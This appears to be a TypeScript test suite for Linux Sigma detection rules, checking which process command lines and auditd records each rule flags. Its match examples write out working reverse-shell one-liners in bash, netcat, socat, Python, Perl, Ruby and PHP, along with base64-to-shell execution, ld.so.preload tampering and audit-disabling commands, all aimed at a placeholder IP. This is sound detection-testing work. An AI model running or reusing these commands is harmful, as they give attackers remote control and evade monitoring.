import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import type { EventFields, SigmaEvent } from '../../src/model/sigma-event.ts';
import { loadRules } from '../../src/sigma/load.ts';
import { createRuleSet } from '../../src/sigma/rule-set.ts';

const folder = join(import.meta.dirname, '../../config/rules');
const { collection, problems } = await loadRules([folder]);
const { rules } = collection;
const ruleSet = createRuleSet(collection);

/** A started program: image, command line, parent's image, parent's command line. */
type Exec = readonly [Image: string, CommandLine: string, ParentImage?: string, ParentCommandLine?: string];
type Examples<Example> = { readonly matches: readonly Example[]; readonly misses: readonly Example[] };

const python = '/usr/bin/python3.11';
const execs: Readonly<Record<string, Examples<Exec>>> = {
  'python-pty-upgrade': {
    matches: [
      [python, 'python3 -c import pty;pty.spawn("/bin/bash")'],
      ['/usr/bin/python', "python -c from pty import spawn; spawn('/bin/sh')"],
      ['/opt/python2.7/bin/python2.7', 'python2.7 -c import PTY; PTY.Spawn("sh")'],
    ],
    misses: [
      [python, 'python3 -c import pty; print(pty.STDIN_FILENO)'],
      [python, 'python3 -c import subprocess; subprocess.run("spawn")'],
      ['/usr/bin/grep', 'grep -rn import pty;pty.spawn src'],
      ['/usr/bin/python3-config', 'python3-config import pty spawn'],
    ],
  },
  'shell-network-redirection': {
    matches: [
      ['/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'],
      ['/usr/bin/dash', 'sh -c bash -i >& /dev/udp/192.0.2.7/53 0>&1'],
      ['/bin/bash', 'bash -c exec 5<>/dev/tcp/192.0.2.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done'],
      ['/bin/bash', 'bash -c sh -i 5<> /dev/tcp/192.0.2.7/4444 <&5'],
      ['/bin/bash', 'bash -c 0<&196;exec 196<>/dev/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196'],
    ],
    misses: [
      ['/usr/bin/bash', 'bash -c (echo > /dev/tcp/localhost/8080) >/dev/null 2>&1'],
      ['/usr/bin/bash', 'bash -c exec 3<>/dev/tcp/localhost/9000; echo GET /health >&3; grep -q UP <<< "$(head -1)"'],
      ['/usr/bin/grep', 'grep -r bash -i >& /dev/tcp/ 0>&1 /var/log'],
      ['/usr/bin/bash', 'bash -c make all 0>&1'],
    ],
  },
  'terminal-helper-shell': {
    matches: [
      ['/usr/bin/script', 'script -qc /bin/bash /dev/null'],
      ['/usr/bin/script', 'script /dev/null -c bash -i'],
      ['/usr/bin/script', 'script -q /dev/null'],
      ['/usr/bin/script', 'script -qec /bin/bash --norc -i /dev/null'],
      ['/usr/bin/socat', 'socat exec:bash -li,pty,stderr,setsid tcp:192.0.2.7:4444'],
      ['/usr/bin/socat', "socat TCP-LISTEN:4444,fork EXEC:'/bin/sh',pty"],
      ['/usr/bin/expect', 'expect -c spawn -noecho /bin/bash; interact'],
    ],
    misses: [
      ['/usr/bin/script', 'script -qec bash run-tests.sh /dev/null'],
      ['/usr/bin/script', 'script session.log'],
      ['/usr/bin/socat', 'socat - EXEC:ssh host nc localhost 22'],
      ['/usr/bin/socat', 'socat pty,link=/dev/ttyV0 pty,link=/dev/ttyV1'],
      ['/usr/bin/expect', 'expect -c spawn ssh router; interact'],
    ],
  },
  'interpreter-socket-shell': {
    matches: [
      [
        python,
        'python3 -c import socket,os;s=socket.socket();s.connect(("192.0.2.7",1));[os.dup2(s.fileno(),f) for f in (0,1,2)]',
      ],
      [
        '/usr/bin/perl',
        'perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$a)){open(STDIN,">&S");exec("/bin/sh -i");};',
      ],
      [
        '/usr/bin/perl5.36',
        'perl -MIO::Socket -e $c=new IO::Socket::INET("h:1");STDIN->fdopen($c,r);\nsystem$_ while<>;',
      ],
      ['/usr/bin/ruby3.1', 'ruby -rsocket -ef=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
      ['/usr/bin/php8.2', 'php -r $s=fsockopen("192.0.2.7",1);exec("/bin/sh -i <&3 >&3 2>&3");'],
    ],
    misses: [
      [python, 'python3 -c import socket;s=socket.socket();s.bind(("",0));print(s.getsockname()[1])'],
      [python, 'python3 /opt/socket_connect_subprocess.py'],
      ['/usr/bin/perl', 'perl -MIO::Socket::INET -e exit(!IO::Socket::INET->new("localhost:80"))'],
      ['/usr/bin/ruby3.1', 'ruby -e require "socket"; TCPSocket.new("localhost", 80).close'],
      ['/usr/bin/php8.2', 'php -r echo fsockopen("localhost", 80) ? "up" : "down";'],
      ['/usr/bin/perl', 'perl -e exec("/bin/ls")'],
    ],
  },
  'netcat-program': {
    matches: [
      ['/usr/bin/nc.traditional', 'nc -e /bin/sh 192.0.2.7 4444'],
      ['/usr/bin/nc.traditional', 'nc -lvpe 4444 /bin/sh -e bash'],
      ['/usr/bin/ncat', 'ncat 192.0.2.7 4444 --sh-exec /bin/bash -i'],
      ['/usr/bin/ncat', 'ncat -l 4444 -c /usr/bin/python3'],
      ['/bin/busybox', 'busybox nc 192.0.2.7 4444 -e sh'],
    ],
    misses: [
      ['/usr/bin/nc.openbsd', 'nc -zv get.example.sh 443'],
      ['/usr/bin/nc.openbsd', 'nc -l 4444'],
      ['/usr/bin/ncat', 'ncat -l 4444 --exec /usr/local/bin/answer'],
      ['/bin/busybox', 'busybox sh -e /etc/init.sh'],
      ['/usr/bin/rsync', 'rsync -e sh a b'],
    ],
  },
  'named-pipe-shell': {
    matches: [
      ['/usr/bin/dash', 'sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f'],
      ['/usr/bin/bash', 'bash -c mknod /tmp/b p; telnet 192.0.2.7 1 0</tmp/b | /bin/bash 1>/tmp/b'],
      ['/usr/bin/bash', 'bash -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:1 | sh'],
    ],
    misses: [
      ['/usr/bin/dash', 'sh -c mkfifo /tmp/f; cat /tmp/f | nc backup 9000'],
      ['/usr/bin/dash', 'sh -c mkfifo /tmp/f; cat /tmp/f | gzip > out.gz'],
      ['/usr/bin/dash', 'sh -c curl -s https://example.org/install | sh'],
    ],
  },
  'memory-file-execution': {
    matches: [
      ['/memfd:kworker (deleted)', '[kworker/0:1]'],
      ['/memfd:', 'x'],
      ['/memfd:runc_cloned:/proc/self/exe (deleted)', 'runc init', '/usr/bin/bash'],
      ['/memfd:runc_cloned:/proc/self/exe (deleted)', 'runc init'],
    ],
    misses: [
      ['/memfd:runc_cloned:/proc/self/exe (deleted)', 'runc init', '/usr/bin/runc'],
      ['/opt/memfd:x', 'x'],
    ],
  },
  'shared-memory-execution': {
    matches: [
      ['/dev/shm/x', './x'],
      ['/usr/bin/bash', 'bash /dev/shm/.x/run.sh'],
      [python, 'python3 /dev/shm/a.py -v'],
    ],
    misses: [
      ['/usr/bin/df', 'df /dev/shm/'],
      ['/usr/bin/bash', 'bash -c ls /dev/shm/'],
      ['/tmp/build/conftest', './conftest'],
    ],
  },
  'encoded-program': {
    matches: [
      ['/usr/bin/bash', 'bash -c echo aWQK | base64 -d | bash'],
      ['/usr/bin/dash', 'sh -c echo aWQK|base64 --decode|sudo /bin/sh -'],
      ['/usr/bin/bash', 'bash -c eval "$(echo aWQK | base64 -d)"'],
      ['/usr/bin/bash', 'bash -c bash <(base64 -di /tmp/x)'],
      ['/usr/bin/dash', 'sh -c openssl enc -base64 -d -in x | python3'],
      [python, 'python3 -c import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'],
      ['/usr/bin/perl', 'perl -MMIME::Base64 -e eval(decode_base64("cHJpbnQ="))'],
      ['/usr/bin/ruby3.1', 'ruby -rbase64 -e eval(Base64.decode64("cHV0cyAx"))'],
      ['/usr/bin/php8.2', 'php -r eval(base64_decode("ZWNobyAxOw=="));'],
    ],
    misses: [
      ['/usr/bin/bash', 'bash -c kubectl get secret x -o jsonpath={.data.p} | base64 -d > p'],
      ['/usr/bin/bash', 'bash -c echo aWQK | base64 -d | sha256sum'],
      ['/usr/bin/bash', 'bash -c base64 image.png | shuf'],
      [python, 'python3 -c import base64,sys;print(base64.b64decode(sys.argv[1])) aWQK'],
      ['/usr/bin/php8.2', 'php -r echo base64_decode("ZWNobyAxOw==");'],
    ],
  },
  'web-server-shell': {
    matches: [
      ['/usr/bin/dash', 'sh -c id', '/usr/sbin/apache2'],
      ['/usr/bin/bash', 'bash -i', '/usr/sbin/php-fpm8.2'],
      ['/usr/bin/dash', 'sh -c /usr/sbin/sendmail -t -i; id', '/usr/sbin/apache2'],
      ['/usr/bin/dash', 'sh -c id > /tmp/rotatelogs ', '/usr/sbin/nginx'],
    ],
    misses: [
      ['/usr/bin/dash', 'sh -c /usr/sbin/sendmail -t -i', '/usr/sbin/php-fpm8.2'],
      ['/usr/bin/dash', '/bin/sh -c exec /usr/bin/rotatelogs /var/log/a.log 86400', '/usr/sbin/apache2'],
      ['/usr/bin/dash', '/bin/sh /usr/sbin/apache2ctl graceful', '/usr/sbin/apache2'],
      ['/usr/bin/dash', 'sh -c id', '/usr/sbin/cron'],
      ['/usr/lib/cgi-bin/count', 'count', '/usr/sbin/apache2'],
    ],
  },
  'loader-execution': {
    matches: [
      [
        '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2',
        '/lib64/ld-linux-x86-64.so.2 /tmp/x -v',
        '/usr/bin/bash',
        'bash',
      ],
      ['/usr/lib/ld-musl-x86_64.so.1', '/lib/ld-musl-x86_64.so.1 ./x'],
      ['/lib/x86_64-linux-gnu/ld-2.31.so', 'ld.so --library-path /tmp/lib --argv0 sshd /tmp/x'],
    ],
    misses: [
      ['/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', '/lib64/ld-linux-x86-64.so.2 --verify /usr/bin/ls'],
      ['/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', '/lib64/ld-linux-x86-64.so.2 --list-tunables'],
      [
        '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2',
        '/lib64/ld-linux-x86-64.so.2 /usr/lib/libz.so',
        '/usr/bin/bash',
        '/bin/bash /usr/bin/ldd /usr/lib/libz.so',
      ],
      ['/usr/bin/file', 'file /lib64/ld-linux-x86-64.so.2 /bin/ls'],
    ],
  },
  'preload-file-change': {
    matches: [
      ['/usr/bin/bash', 'bash -c echo /lib/x.so >> /etc/ld.so.preload'],
      ['/usr/bin/tee', 'tee -a /etc/ld.so.preload'],
      ['/usr/bin/cp', 'cp /tmp/p /etc/ld.so.preload'],
      ['/usr/bin/dd', 'dd if=/tmp/p of=/etc/ld.so.preload'],
      ['/usr/bin/sed', 'sed -i 1d /etc/ld.so.preload'],
    ],
    misses: [
      ['/usr/bin/cat', 'cat /etc/ld.so.preload'],
      ['/usr/bin/cp', 'cp /etc/ld.so.preload /backup/'],
      ['/usr/bin/sed', 'sed -n 1p /etc/ld.so.preload'],
      ['/usr/bin/tee', 'tee /etc/ld.so.conf'],
    ],
  },
  'audit-stop-command': {
    matches: [
      ['/usr/sbin/auditctl', 'auditctl -D'],
      ['/usr/sbin/auditctl', 'auditctl -e 0'],
      ['/usr/bin/systemctl', 'systemctl disable --now auditd.service'],
      ['/usr/bin/dash', '/bin/sh /usr/sbin/service auditd stop'],
      ['/usr/bin/pkill', 'pkill -9 auditd'],
    ],
    misses: [
      ['/usr/sbin/auditctl', 'auditctl -R /etc/audit/audit.rules'],
      ['/usr/sbin/auditctl', 'auditctl -e 2'],
      ['/usr/sbin/auditctl', 'auditctl -d always,exit -S mount'],
      ['/usr/bin/systemctl', 'systemctl status auditd'],
      ['/usr/bin/systemctl', 'systemctl stop nginx'],
      ['/usr/bin/pkill', 'pkill -HUP syslogd'],
    ],
  },
};

const records: Readonly<Record<string, Examples<EventFields>>> = {
  'audit-rule-removed': {
    matches: [{ type: 'CONFIG_CHANGE', op: 'remove_rule', key: 'sigmond_exec', list: '4', res: '1' }],
    misses: [
      { type: 'CONFIG_CHANGE', op: 'add_rule', key: 'sigmond_exec', list: '4', res: '1' },
      { type: 'CONFIG_CHANGE', op: 'remove_rule', key: 'sigmond_exec', list: '4', res: '0' },
    ],
  },
  'audit-switched-off': {
    matches: [
      { type: 'CONFIG_CHANGE', op: 'set', audit_enabled: '0', old: '1', res: '1' },
      { type: 'DAEMON_END', op: 'terminate', auid: '1000', pid: '4711', res: 'success' },
    ],
    misses: [
      { type: 'CONFIG_CHANGE', op: 'set', audit_enabled: '1', old: '0', res: '1' },
      { type: 'CONFIG_CHANGE', op: 'set', audit_enabled: '0', old: '1', res: '0' },
      { type: 'CONFIG_CHANGE', op: 'set', audit_backlog_limit: '8192', old: '64', res: '1' },
      { type: 'DAEMON_END', op: 'terminate', auid: '4294967295', pid: '1', res: 'success' },
      { type: 'DAEMON_START', op: 'start', pid: '24292', res: 'success' },
    ],
  },
};

test('the shipped rules load without a problem, and each has examples here', async () => {
  assert.deepEqual(problems, []);
  const files = (await readdir(folder)).map((file) => file.replace(/\.yml$/, ''));
  assert.deepEqual(files.sort(), [...Object.keys(execs), ...Object.keys(records)].sort());
  assert.equal(rules.length, files.length);
});

test('no two shipped rules share an id, and each says who, when, how bad and what else it may be', async () => {
  const ids = rules.map(({ meta }) => meta.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const { meta } of rules) {
    assert.match(meta.id, /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/, meta.path);
    assert.equal(meta.author, 'sigmond', meta.path);
    assert.ok(meta.description && meta.references.length > 0 && meta.falsepositives.length > 0, meta.path);
    assert.ok(
      meta.tags.some((tag) => /^attack\.t\d/.test(tag)),
      meta.path,
    );
    assert.match(await readFile(meta.path, 'utf8'), /^date: 2026-11-24$/m);
  }
});

for (const [file, { matches, misses }] of Object.entries(execs)) {
  test(`${file} matches what it is for and nothing near it`, () => {
    for (const exec of matches) assert.ok(matchingFiles(execEvent(exec)).includes(file), `misses ${exec[1]}`);
    for (const exec of misses) assert.ok(!matchingFiles(execEvent(exec)).includes(file), `matches ${exec[1]}`);
  });
}

for (const [file, { matches, misses }] of Object.entries(records)) {
  test(`${file} matches what it is for and nothing near it`, () => {
    for (const fields of matches) assert.ok(matchingFiles(recordEvent(fields)).includes(file), JSON.stringify(fields));
    for (const fields of misses) assert.ok(!matchingFiles(recordEvent(fields)).includes(file), JSON.stringify(fields));
  });
}

test('shared-memory-execution tells a deleted image in a temporary folder from one that was updated', () => {
  const deleted = (Image: string) => event('category', { Image, CommandLine: 'x', ImageDeleted: 'true' });
  assert.deepEqual(matchingFiles(deleted('/tmp/.cache/x')), ['shared-memory-execution']);
  assert.deepEqual(matchingFiles(deleted('/usr/sbin/nginx')), []);
});

test('what an ordinary host starts all day raises nothing', () => {
  const ordinary: readonly Exec[] = [
    ['/usr/bin/dash', '/bin/sh -c cd / && run-parts --report /etc/cron.hourly', '/usr/sbin/cron', '/usr/sbin/cron -f'],
    ['/usr/bin/bash', '-bash', '/usr/sbin/sshd', 'sshd: admin@pts/0'],
    ['/usr/bin/sudo', 'sudo apt-get update', '/usr/bin/bash', '-bash'],
    ['/usr/bin/python3.11', '/usr/bin/python3 /usr/bin/unattended-upgrade', '/usr/bin/bash', 'bash'],
    ['/usr/bin/perl', '/usr/bin/perl /usr/bin/debconf-communicate', '/usr/bin/dash', 'sh'],
    ['/usr/sbin/nginx', 'nginx: worker process', '/usr/sbin/nginx', 'nginx: master process'],
    ['/usr/bin/systemctl', 'systemctl restart nginx', '/usr/bin/bash', '-bash'],
    ['/usr/bin/ssh', 'ssh -o ProxyCommand=nc -X connect -x proxy:3128 %h %p host', '/usr/bin/bash', '-bash'],
    ['/usr/bin/git', 'git fetch origin', '/usr/bin/node', 'node server.js'],
    ['/usr/bin/runc', 'runc --root /run/runc create x', '/usr/bin/containerd-shim-runc-v2', 'containerd-shim'],
    ['/usr/bin/bash', '/bin/bash /usr/bin/ldd /bin/ls', '/usr/bin/dash', 'sh /usr/sbin/mkinitramfs'],
    ['/usr/sbin/auditctl', '/sbin/auditctl -R /etc/audit/audit.rules', '/usr/bin/dash', 'sh /sbin/augenrules --load'],
  ];
  for (const exec of ordinary) assert.deepEqual(matchingFiles(execEvent(exec)), [], exec[1]);
});

function matchingFiles(event: SigmaEvent): readonly string[] {
  return ruleSet.evaluate(event).map(({ rule }) => rule.path.replace(/^.*\/|\.yml$/g, ''));
}

function execEvent([Image, CommandLine, ParentImage, ParentCommandLine]: Exec): SigmaEvent {
  return event('category', {
    Image,
    CommandLine,
    ...(ParentImage !== undefined && { ParentImage }),
    ...(ParentCommandLine !== undefined && { ParentCommandLine }),
  });
}

function recordEvent(fields: EventFields): SigmaEvent {
  return event('service', fields);
}

function event(dimension: 'category' | 'service', fields: EventFields): SigmaEvent {
  const logsource =
    dimension === 'category'
      ? { product: 'linux', category: 'process_creation' }
      : { product: 'linux', service: 'auditd' };
  return { id: '1795489893.399:14906', timestampMs: 1_795_489_893_399, logsource, fields };
}
